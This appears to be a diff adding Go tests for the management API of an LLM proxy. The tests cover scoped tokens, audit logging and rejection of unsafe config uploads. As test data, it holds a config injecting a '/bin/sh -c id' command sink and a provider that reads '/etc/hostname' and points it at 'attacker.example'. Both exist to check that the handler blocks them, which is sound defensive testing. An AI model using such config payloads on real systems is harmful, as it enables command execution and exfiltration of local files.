@@ -1,12 +1,17 @@
 package management
 
 import (
+	"context"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/gin-gonic/gin"
+	"github.com/nghyane/llm-mux/internal/audit"
 	"github.com/nghyane/llm-mux/internal/config"
 )
 
@@ -261,3 +266,178 @@ func TestErrorCodes(t *testing.T) {
 		}
 	}
 }
+
+func TestMiddleware_TokenScopes(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("LLM_MUX_MANAGEMENT_KEY", "master-key")
+	config.InvalidateCache()
+	t.Cleanup(config.InvalidateCache)
+
+	reader, _, err := config.CreateManagementToken("reader", []string{config.ManagementScopeRead}, 0)
+	if err != nil {
+		t.Fatalf("CreateManagementToken: %v", err)
+	}
+	expired, _, err := config.CreateManagementToken("old", []string{config.ManagementScopeAdmin}, time.Nanosecond)
+	if err != nil {
+		t.Fatalf("CreateManagementToken: %v", err)
+	}
+	time.Sleep(time.Millisecond)
+
+	h := NewHandler(&config.Config{}, "", nil)
+	r := gin.New()
+	mgmt := r.Group("/m", h.Middleware())
+	ok := func(c *gin.Context) { c.String(http.StatusOK, ActorFromContext(c)) }
+	mgmt.GET("/usage", h.RequireScope(config.ManagementScopeRead), ok)
+	mgmt.PUT("/config.yaml", h.RequireScope(config.ManagementScopeConfig), ok)
+
+	do := func(method, path, key string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(method, path, nil)
+		req.RemoteAddr = "127.0.0.1:1234"
+		req.Header.Set("Authorization", "Bearer "+key)
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+
+	if w := do(http.MethodGet, "/m/usage", reader); w.Code != http.StatusOK || w.Body.String() != "reader" {
+		t.Errorf("reader GET usage: %d %s", w.Code, w.Body.String())
+	}
+	if w := do(http.MethodPut, "/m/config.yaml", reader); w.Code != http.StatusForbidden {
+		t.Errorf("reader PUT config: expected 403, got %d", w.Code)
+	}
+	if w := do(http.MethodPut, "/m/config.yaml", "master-key"); w.Code != http.StatusOK || w.Body.String() != "management-key" {
+		t.Errorf("master key PUT config: %d %s", w.Code, w.Body.String())
+	}
+	if w := do(http.MethodGet, "/m/usage", expired); w.Code != http.StatusUnauthorized || !strings.Contains(w.Body.String(), "expired") {
+		t.Errorf("expired token: %d %s", w.Code, w.Body.String())
+	}
+
+	if err := config.RevokeManagementToken("reader"); err != nil {
+		t.Fatalf("RevokeManagementToken: %v", err)
+	}
+	if w := do(http.MethodGet, "/m/usage", reader); w.Code != http.StatusUnauthorized || !strings.Contains(w.Body.String(), "revoked") {
+		t.Errorf("revoked token: %d %s", w.Code, w.Body.String())
+	}
+}
+
+func TestMiddleware_AuditsMutations(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("LLM_MUX_MANAGEMENT_KEY", "master-key")
+	config.InvalidateCache()
+	t.Cleanup(config.InvalidateCache)
+
+	cfg := &config.Config{}
+	h := NewHandler(cfg, "", nil)
+	t.Cleanup(h.auditLog.Close)
+	r := gin.New()
+	mgmt := r.Group("/v1/management", h.Middleware())
+	mgmt.PUT("/debug", h.RequireScope(config.ManagementScopeConfig), func(c *gin.Context) {
+		cfg.Debug = true
+		cfg.APIKeys = append(cfg.APIKeys, "sk-secret")
+		respondOK(c, gin.H{"status": "ok"})
+	})
+	mgmt.GET("/debug", h.RequireScope(config.ManagementScopeConfig), func(c *gin.Context) { respondOK(c, gin.H{}) })
+
+	do := func(method, key string) {
+		req := httptest.NewRequest(method, "/v1/management/debug", nil)
+		req.RemoteAddr = "127.0.0.1:1234"
+		req.Header.Set("X-Management-Key", key)
+		r.ServeHTTP(httptest.NewRecorder(), req)
+	}
+	do(http.MethodGet, "master-key")
+	do(http.MethodPut, "master-key")
+
+	entries, err := h.auditLog.Query(context.Background(), audit.Filter{})
+	if err != nil {
+		t.Fatalf("Query: %v", err)
+	}
+	if len(entries) != 1 {
+		t.Fatalf("expected only the mutation to be audited, got %+v", entries)
+	}
+	e := entries[0]
+	if e.Actor != "management-key" || e.Action != "PUT /debug" || e.Result != audit.ResultSuccess {
+		t.Errorf("unexpected entry %+v", e)
+	}
+	changes := map[string]audit.Change{}
+	for _, ch := range e.Changes {
+		changes[ch.Path] = ch
+	}
+	if ch := changes["config.debug"]; ch.After != true {
+		t.Errorf("missing debug change: %+v", e.Changes)
+	}
+	if ch := changes["config.api-keys.0"]; ch.After != audit.Redacted {
+		t.Errorf("api key must be redacted: %+v", ch)
+	}
+}
+
+func TestPutConfigYAML_RejectsNewCommandSinks(t *testing.T) {
+	const onDisk = "port: 8317\nevents:\n  sinks:\n    - name: notify\n      type: command\n      command: [\"/usr/local/bin/notify\"]\n"
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte(onDisk), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := config.LoadConfig(path)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	h := NewHandler(cfg, path, nil)
+
+	put := func(body string) *httptest.ResponseRecorder {
+		w := httptest.NewRecorder()
+		c, _ := gin.CreateTestContext(w)
+		c.Request = httptest.NewRequest(http.MethodPut, "/config.yaml", strings.NewReader(body))
+		h.PutConfigYAML(c)
+		return w
+	}
+
+	if w := put(strings.Replace(onDisk, "8317", "8318", 1)); w.Code != http.StatusOK {
+		t.Fatalf("upload keeping the command sink: %d %s", w.Code, w.Body.String())
+	}
+	changed := strings.Replace(onDisk, "/usr/local/bin/notify", "/bin/sh", 1)
+	if w := put(changed); w.Code != http.StatusForbidden {
+		t.Fatalf("upload changing the command sink: expected 403, got %d %s", w.Code, w.Body.String())
+	}
+	added := onDisk + "    - name: run\n      type: command\n      command: [\"/bin/sh\", \"-c\", \"id\"]\n"
+	if w := put(added); w.Code != http.StatusForbidden {
+		t.Fatalf("upload adding a command sink: expected 403, got %d %s", w.Code, w.Body.String())
+	}
+	data, _ := os.ReadFile(path)
+	if strings.Contains(string(data), "/bin/sh") {
+		t.Errorf("rejected upload was written: %s", data)
+	}
+}
+
+func TestPutConfigYAML_RejectsFileSecretRefs(t *testing.T) {
+	const onDisk = "port: 8317\n"
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte(onDisk), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := config.LoadConfig(path)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	h := NewHandler(cfg, path, nil)
+
+	body := onDisk + "providers:\n  - type: openai\n    name: exfil\n    api-key: file:/etc/hostname\n    base-url: https://attacker.example/v1\n    models:\n      - name: m\n"
+	w := httptest.NewRecorder()
+	c, _ := gin.CreateTestContext(w)
+	c.Request = httptest.NewRequest(http.MethodPut, "/config.yaml", strings.NewReader(body))
+	h.PutConfigYAML(c)
+	if w.Code != http.StatusForbidden || !strings.Contains(w.Body.String(), "providers[0].api-key") {
+		t.Fatalf("expected 403 naming the field, got %d %s", w.Code, w.Body.String())
+	}
+
+	// A value set through the JSON endpoints would be resolved on reload.
+	w = httptest.NewRecorder()
+	c, _ = gin.CreateTestContext(w)
+	c.Request = httptest.NewRequest(http.MethodPut, "/api-keys", strings.NewReader(`["file:/etc/hostname"]`))
+	h.PutAPIKeys(c)
+	if w.Code != http.StatusForbidden {
+		t.Fatalf("api-keys: expected 403, got %d %s", w.Code, w.Body.String())
+	}
+	data, _ := os.ReadFile(path)
+	if string(data) != onDisk {
+		t.Errorf("rejected upload was written: %s", data)
+	}
+}